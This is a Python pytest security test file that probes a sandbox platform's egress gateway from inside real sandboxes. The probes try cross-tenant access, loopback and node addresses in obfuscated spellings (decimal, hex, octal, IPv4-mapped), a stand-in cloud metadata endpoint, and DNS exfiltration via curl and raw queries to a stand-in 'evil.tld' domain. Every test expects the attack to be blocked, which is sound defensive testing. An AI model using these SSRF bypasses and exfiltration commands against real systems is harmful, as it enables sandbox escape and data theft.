"""Egress probes (issue 13, findings 1 and 2): attacks run from inside real sandboxes of a real
``space serve``, through the real gateway, against test hosts on this machine only.

- another tenant's sandbox, a server listening in it, by its sandbox address: with no policy, with
  ``allow 10.208.0.0/12`` and with ``allow 0.0.0.0/0`` (through the API and, as a control plane that
  skipped its checks would, straight into the node's gateway);
- the node's own addresses (v4 from the FIB, v6, IPv4-mapped) and loopback in every spelling
  (``127.0.0.1``, ``0.0.0.0``, ``::1``, ``::``, ``::ffff:127.0.0.1``, ``127.1``, decimal, hex,
  octal) against a listener on the node and SPACE's own API port, through the explicit proxy
  (absolute-form and CONNECT), a transparent ``Host`` header and a transparent TLS SNI;
- a stand-in metadata host (169.254.169.254 and fd00:ec2::254 in a namespace of ours);
- DNS exfiltration: ``curl https://<data>.evil.tld`` (through the proxy and transparently),
  ``getent hosts`` and raw DNS queries under default-deny, with and without a CIDR in the allow list.

The gateway resolves through :class:`CountingDns` on loopback (no hosts file), so "never looked up
upstream" is the number of questions it received. Every address dialled is on this machine.
"""

from __future__ import annotations

import json
import secrets
import shlex
import socket
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.e2e.harness import Server, create_sandbox, own_server, run
from tests.security.egress_fixtures import (
    META_V4,
    META_V6,
    UPSTREAM_V4,
    CountingDns,
    NodeListener,
    StandIn,
    metadata_host,
    node_addresses,
)

pytestmark = pytest.mark.runtime

OPEN = {"allow": ["0.0.0.0/0", "::/0"]}  # "the whole internet": must never mean the node too
ALLOWLIST = {"allow": ["api.test"]}
ALLOWLIST_CIDR = {"allow": ["api.test", "198.51.100.0/24"]}

#: Runs inside the sandbox: each attempt as JSON in, one JSON result per attempt out.
ATTEMPT = r"""
import json, socket, ssl, sys
gw, attempts = sys.argv[1], json.loads(sys.argv[2])
def hp(h, p):
    return f"[{h}]:{p}" if ":" in h else f"{h}:{p}"
def talk(addr, data, tls_sni=None):
    s = socket.create_connection(addr, timeout=8)
    try:
        if tls_sni is not None:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
            s = ctx.wrap_socket(s, server_hostname=tls_sni)
        s.sendall(data)
        buf = b""
        while len(buf) < 4096:
            chunk = s.recv(4096)
            if not chunk:
                break
            buf += chunk
        return buf
    finally:
        s.close()
out = []
for a in attempts:
    host, port, via = a["host"], a["port"], a["via"]
    try:
        if via == "proxy":
            buf = talk((gw, 3128), f"GET http://{hp(host, port)}/ HTTP/1.1\r\nHost: {hp(host, port)}\r\n"
                                   "Connection: close\r\n\r\n".encode())
        elif via == "connect":
            buf = talk((gw, 3128), f"CONNECT {hp(host, port)} HTTP/1.1\r\nHost: {hp(host, port)}\r\n\r\n"
                                   "GET / HTTP/1.0\r\n\r\n".encode())
        elif via == "host":
            buf = talk((a["dial"], port),
                       f"GET / HTTP/1.1\r\nHost: {hp(host, port)}\r\nConnection: close\r\n\r\n".encode())
        elif via == "sni":
            buf = talk((a["dial"], port), b"GET / HTTP/1.0\r\n\r\n", tls_sni=host)
        else:  # direct: the sandbox dials the address itself
            buf = talk((host, port), f"GET / HTTP/1.0\r\nHost: {hp(host, port)}\r\n\r\n".encode())
        out.append({**a, "reply": buf[:300].decode(errors="replace")})
    except Exception as e:
        out.append({**a, "error": f"{type(e).__name__}: {e}"})
print(json.dumps(out))
"""


# ---- fixtures --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stand_in(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StandIn]:
    with metadata_host(tmp_path_factory.mktemp("meta")) as s:
        yield s


@pytest.fixture(scope="module")
def dns() -> Iterator[CountingDns]:
    d = CountingDns({"api.test": UPSTREAM_V4, "metadata.test": META_V4, "node.test": "127.0.0.1"})
    yield d
    d.close()


@pytest.fixture(scope="module")
def srv(dns: CountingDns, stand_in: StandIn, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with own_server(tmp_path_factory.mktemp("probesrv"), env={"SPACE_GATEWAY_UPSTREAM_DNS": dns.address}) as s:
        yield s


@pytest.fixture(scope="module")
def api(srv: Server) -> Iterator[httpx.Client]:
    with srv.client(timeout=120) as c:
        yield c


OTHER = f"victim-{secrets.token_hex(3)}"


@pytest.fixture(scope="module")
def other_tenant(srv: Server, api: httpx.Client) -> Iterator[httpx.Client]:
    """An admin key of another tenant (``OTHER``)."""
    r = api.post("/v1/apikeys", json={"tenant": OTHER, "role": "admin"})
    assert r.status_code == 201, r.text
    with srv.client(r.json()["key"], timeout=120) as c:
        yield c


@pytest.fixture(scope="module")
def victim(other_tenant: httpx.Client) -> Iterator[tuple[str, str]]:
    """Another tenant's sandbox with a server on :8000: (sandbox id, its address)."""
    sid = create_sandbox(other_tenant)
    try:
        sh(other_tenant, sid, "nohup python3 -m http.server 8000 >/tmp/srv.log 2>&1 &")
        sh(other_tenant, sid, "for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; "
                              "sleep 0.1; done")
        yield sid, sh(other_tenant, sid, "hostname -I").split()[0]
    finally:
        other_tenant.delete(f"/v1/sandboxes/{sid}")


def sandbox_with(api: httpx.Client, policy: dict[str, Any] | None) -> Iterator[str]:
    sid = create_sandbox(api, **({"egress": policy} if policy is not None else {}))
    yield sid
    api.delete(f"/v1/sandboxes/{sid}")


@pytest.fixture(scope="module")
def sb_default(api: httpx.Client) -> Iterator[str]:
    yield from sandbox_with(api, None)


@pytest.fixture(scope="module")
def sb_open(api: httpx.Client) -> Iterator[str]:
    yield from sandbox_with(api, OPEN)


# ---- helpers ---------------------------------------------------------------------------------------


def sh(api: httpx.Client, sid: str, script: str, timeout: float = 120) -> str:
    code, out, err = run(api, sid, {"cmd": ["sh", "-c", script], "timeout": timeout})
    assert code == 0, (script, code, out, err)
    return out.decode(errors="replace")


def gateway_of(api: httpx.Client, sid: str) -> str:
    return sh(api, sid, "awk '/nameserver/{print $2}' /etc/resolv.conf").strip()


def attempt(api: httpx.Client, sid: str, attempts: list[dict[str, Any]]) -> list[dict[str, Any]]:
    gw = gateway_of(api, sid)
    out = sh(api, sid, f"python3 -c {shlex.quote(ATTEMPT)} {gw} {shlex.quote(json.dumps(attempts))}")
    results: list[dict[str, Any]] = json.loads(out)
    return results


def gateway_put(srv: Server, ip: str, sandbox: str, tenant: str, policy: dict[str, Any]) -> dict[str, Any]:
    """Tell the node's gateway a policy directly, as a control plane that skipped every check would."""
    from space.node.main import channel_dir_for

    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(20)
        s.connect(str(channel_dir_for(srv.data_dir) / "gateway.sock"))
        s.sendall(json.dumps({"op": "put", "ip": ip, "sandbox": sandbox, "tenant": tenant, "policy": policy,
                              "secrets": []}).encode() + b"\n")
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = s.recv(65536)
            if not chunk:
                break
            buf += chunk
    reply: dict[str, Any] = json.loads(buf)
    return reply


def reached(results: list[dict[str, Any]], marker: str) -> list[dict[str, Any]]:
    return [r for r in results if marker in r.get("reply", "")]


def denied_by_gateway(r: dict[str, Any]) -> bool:
    """The gateway's own refusal: a 403 naming SPACE's policy, or a reset/closed connection."""
    reply = r.get("reply")
    return ("SPACE egress" in reply) if reply else "error" in r


# ---- another tenant's sandbox ----------------------------------------------------------------------


def _victim_attempts(ip: str, gw_dial: str) -> list[dict[str, Any]]:
    return [{"host": ip, "port": 8000, "via": v, "dial": gw_dial} for v in ("direct", "proxy", "connect", "host")]


@pytest.mark.probe("reach another tenant's sandbox server by its sandbox address, with no egress policy")
def test_other_tenant_sandbox_without_policy(api: httpx.Client, sb_default: str, other_tenant: httpx.Client,
                                             victim: tuple[str, str], stand_in: StandIn) -> None:
    vid, vip = victim
    results = attempt(api, sb_default, _victim_attempts(vip, stand_in.link))
    assert reached(results, "Directory listing") == [], results
    assert "GET /" not in sh(other_tenant, vid, "grep -v 127.0.0.1 /tmp/srv.log || true")


@pytest.mark.parametrize("cidr", ["10.208.0.0/12", "0.0.0.0/0"], ids=["allow-sandbox-supernet", "allow-everything"])
@pytest.mark.probe("reach another tenant's sandbox server with a CIDR allowing it (via the API and pushed "
                   "straight into the node's gateway)")
def test_other_tenant_sandbox_with_a_cidr(api: httpx.Client, srv: Server, other_tenant: httpx.Client,
                                          victim: tuple[str, str], stand_in: StandIn, cidr: str) -> None:
    vid, vip = victim
    sid = create_sandbox(api)
    try:
        via_api = api.put(f"/v1/sandboxes/{sid}/policy", json={"allow": [cidr]})
        results = attempt(api, sid, _victim_attempts(vip, stand_in.link))
        my_ip = sh(api, sid, "hostname -I").split()[0]
        assert gateway_put(srv, my_ip, sid, "default", {"allow": [cidr]})["ok"]
        results += attempt(api, sid, _victim_attempts(vip, stand_in.link))
        assert reached(results, "Directory listing") == [], results
        assert all(denied_by_gateway(r) for r in results), results
        assert "GET /" not in sh(other_tenant, vid, "grep -v 127.0.0.1 /tmp/srv.log || true")
        if cidr == "10.208.0.0/12":  # wholly the node's sandbox ranges: refused, naming the entry
            assert via_api.status_code == 400, via_api.text
            assert cidr in via_api.json()["error"]["message"], via_api.text
        else:  # accepted, but it never opens what no policy may reach
            assert via_api.status_code == 200, via_api.text
    finally:
        api.delete(f"/v1/sandboxes/{sid}")


# ---- the node's addresses and loopback -------------------------------------------------------------

V4, V6 = node_addresses()
LOOPBACK_SPELLINGS = {
    "v4-loopback": "127.0.0.1",
    "v4-loopback-other": "127.0.0.2",
    "v4-unspecified": "0.0.0.0",
    "v4-short-127.1": "127.1",
    "v4-decimal": "2130706433",
    "v4-hex": "0x7f000001",
    "v4-octal": "0177.0.0.1",
    "v4-hex-dotted": "0x7f.0.0.1",
    "v6-loopback": "::1",
    "v6-unspecified": "::",
    "v6-mapped-loopback": "::ffff:127.0.0.1",
    "v6-mapped-unspecified": "::ffff:0.0.0.0",
    "v6-compat-loopback": "::127.0.0.1",
    "nat64-loopback": "64:ff9b::7f00:1",
    "name-resolving-to-loopback": "node.test",
}
NODE_SPELLINGS = {
    "node-v4-addresses": V4,
    "node-v6-addresses": V6,
    "node-v4-mapped-addresses": [f"::ffff:{a}" for a in V4],
}


def _node_attempts(hosts: list[str], port: int, dial: str) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for h in hosts:
        out += [{"host": h, "port": port, "via": v, "dial": dial} for v in ("proxy", "connect", "host", "sni")]
        if "." in h and ":" not in h and h[0].isdigit():
            out.append({"host": h, "port": port, "via": "direct", "dial": dial})
    return out


@pytest.mark.parametrize("policy", [None, OPEN], ids=["no-policy", "allow-0.0.0.0/0-and-::/0"])
@pytest.mark.parametrize("spelling", [*LOOPBACK_SPELLINGS, *NODE_SPELLINGS])
@pytest.mark.probe("reach a listener on the node (0.0.0.0:P and [::]:P) by a node address or a loopback "
                   "spelling: proxy, CONNECT, Host header, SNI, direct")
def test_node_and_loopback_unreachable(request: pytest.FixtureRequest, api: httpx.Client, dns: CountingDns,
                                       stand_in: StandIn, spelling: str, policy: dict[str, Any] | None) -> None:
    sid = request.getfixturevalue("sb_open" if policy else "sb_default")
    hosts = [LOOPBACK_SPELLINGS[spelling]] if spelling in LOOPBACK_SPELLINGS else NODE_SPELLINGS[spelling]
    if not hosts:
        pytest.skip(f"this node has no {spelling}")
    listener = NodeListener()
    try:
        results = attempt(api, sid, _node_attempts(hosts, listener.port, stand_in.link))
        assert listener.seen() == [], (listener.seen(), results)
    finally:
        listener.close()
    assert reached(results, "node-listener") == [], results
    for h in hosts:
        if h != "node.test":  # an address in any spelling is parsed, never looked up as a name
            assert dns.questions(h) == [], f"{h} was sent to upstream DNS as a name"


@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0", "::ffff:127.0.0.1", "2130706433"],
                         ids=["loopback", "unspecified", "mapped", "decimal"])
@pytest.mark.probe("reach SPACE's own API (its port on loopback) through the gateway")
def test_space_api_unreachable(api: httpx.Client, srv: Server, sb_open: str, stand_in: StandIn, host: str) -> None:
    results = attempt(api, sb_open, [{"host": host, "port": srv.port, "via": v, "dial": stand_in.link}
                                     for v in ("proxy", "connect", "host")])
    assert not any('"status"' in r.get("reply", "") or "200 OK" in r.get("reply", "") for r in results), results
    assert all(denied_by_gateway(r) for r in results), results


# ---- the metadata stand-in -------------------------------------------------------------------------


@pytest.mark.parametrize("policy", [None, OPEN], ids=["no-policy", "allow-0.0.0.0/0-and-::/0"])
@pytest.mark.parametrize("host", [META_V4, META_V6, "metadata.test"], ids=["v4", "v6", "name"])
@pytest.mark.probe("reach the cloud metadata address (a stand-in on this machine)")
def test_metadata_unreachable(request: pytest.FixtureRequest, api: httpx.Client, stand_in: StandIn,
                              host: str, policy: dict[str, Any] | None) -> None:
    sid = request.getfixturevalue("sb_open" if policy else "sb_default")
    tries = [{"host": host, "port": 80, "via": v, "dial": stand_in.link} for v in ("proxy", "connect", "host")]
    if host == META_V4:
        tries.append({"host": host, "port": 80, "via": "direct", "dial": stand_in.link})
    before = len(stand_in.hits(META_V4)) + len(stand_in.hits(META_V6))
    results = attempt(api, sid, tries)
    assert len(stand_in.hits(META_V4)) + len(stand_in.hits(META_V6)) == before, (stand_in.hits(), results)
    assert reached(results, "metadata-stand-in") == [], results
    assert all(denied_by_gateway(r) for r in results), results


def test_the_stand_in_is_reachable_where_allowed(api: httpx.Client, stand_in: StandIn) -> None:
    """The control: the same paths reach an allowed upstream in the same namespace (by a name a host
    rule allows, and by an address an allowed CIDR covers)."""
    for sid in sandbox_with(api, {"allow": ["api.test", "0.0.0.0/0"]}):
        before = len(stand_in.hits(UPSTREAM_V4))
        results = attempt(api, sid, [{"host": "api.test", "port": 80, "via": v, "dial": stand_in.link}
                                     for v in ("proxy", "host")]
                          + [{"host": UPSTREAM_V4, "port": 80, "via": "direct", "dial": stand_in.link}])
        assert len(reached(results, "metadata-stand-in")) == 3, results
        assert len(stand_in.hits(UPSTREAM_V4)) == before + 3


# ---- DNS exfiltration ------------------------------------------------------------------------------

RAW_DNS = r"""
import random, socket, struct, sys
server, name, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3])
q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, (server, 53))
try:
    data = s.recv(4096); print("rcode", data[3] & 15)
except OSError as e:
    print("error", e)
"""


@pytest.mark.parametrize("policy", [ALLOWLIST, ALLOWLIST_CIDR], ids=["allowlist", "allowlist-with-a-cidr"])
@pytest.mark.probe("exfiltrate data through upstream DNS lookups of denied names (curl through the proxy and "
                   "transparently, getent, raw A/TXT/MX queries)")
def test_denied_names_never_reach_upstream_dns(api: httpx.Client, dns: CountingDns, policy: dict[str, Any]) -> None:
    sid = create_sandbox(api, egress=policy)
    try:
        data = "x" + secrets.token_hex(8)
        names = [f"{data}-{i}.evil.tld" for i in range(6)]
        gw = gateway_of(api, sid)
        script = "; ".join([
            f"curl -s -m 8 -o /dev/null https://{names[0]}/",
            f"curl -s -m 8 -o /dev/null -x http://{gw}:3128 https://{names[1]}/",
            f"curl -s -m 8 -o /dev/null -x http://{gw}:3128 http://{names[2]}/",
            f"getent hosts {names[3]}",
            f"python3 -c {shlex.quote(RAW_DNS)} {gw} {names[4]} 16",
            f"python3 -c {shlex.quote(RAW_DNS)} {gw} {names[5]} 15",
            "getent hosts api.test",
            "true"])
        out = sh(api, sid, script)
        assert dns.questions(data) == [], f"upstream DNS was asked {dns.questions(data)}"
        assert UPSTREAM_V4 in out, out  # the allowed name still resolves
    finally:
        api.delete(f"/v1/sandboxes/{sid}")


# ---- private ranges are the operator's -------------------------------------------------------------


def test_private_ranges_are_the_operators_to_open(api: httpx.Client, other_tenant: httpx.Client) -> None:
    """Not a probe (no sandbox attacks): the API side of the ceiling on a deployment that opens none."""
    ceiling = f"/v1/tenants/{OTHER}/egress-ceiling"
    r = other_tenant.put(ceiling, json={"private": ["10.5.0.0/16"]})
    assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", r.text
    r = api.put(ceiling, json={"private": ["10.5.0.0/16"]})  # the operator, beyond the deployment's (none)
    assert r.status_code == 400 and "outside the deployment's egress ceiling" in r.json()["error"]["message"]
    assert api.put(ceiling, json={"private": ["127.0.0.0/8"]}).status_code == 400  # never a ceiling
    assert other_tenant.get(ceiling).json() == {"tenant": OTHER, "private": None, "effective": [], "deployment": []}
    # A tenant's CIDR reaching outside its ceiling: refused, naming the entry and the ceiling.
    for where, call in (("sandbox", lambda doc: other_tenant.post("/v1/sandboxes", json={"template": "base",
                                                                                        "egress": doc})),
                        ("tenant default", lambda doc: other_tenant.put(f"/v1/tenants/{OTHER}/egress", json=doc))):
        for rule in ("10.5.0.0/16", "192.168.1.0/24", "fd00::/8", "10.208.0.0/12", "169.254.169.254/32"):
            r = call({"allow": [rule]})
            assert r.status_code == 400, (where, rule, r.text)
            err = r.json()["error"]
            assert err["code"] == "invalid_request" and err["rule"] == rule and err["ceiling"] == [], err
            assert rule in err["message"]
    # Broad public CIDRs are accepted, and the view says what they do not open.
    sid = create_sandbox(other_tenant, egress=OPEN)
    try:
        view = other_tenant.get(f"/v1/sandboxes/{sid}/policy").json()
        assert view["effective"] == OPEN and view["limits"]["private_ceiling"] == []
        assert len(view["limits"]["clipped"]) == 2 and "stay closed" in view["limits"]["clipped"][0]
        assert "127.0.0.0/8 (loopback)" in view["limits"]["never"]
    finally:
        other_tenant.delete(f"/v1/sandboxes/{sid}")
    recs = api.get("/v1/audit", params={"action": "egress.ceiling_set", "limit": 100}).json()["records"]
    assert {(x["tenant"], x["result"]) for x in recs} >= {(OTHER, "forbidden"), ("default", "invalid_request")}, recs
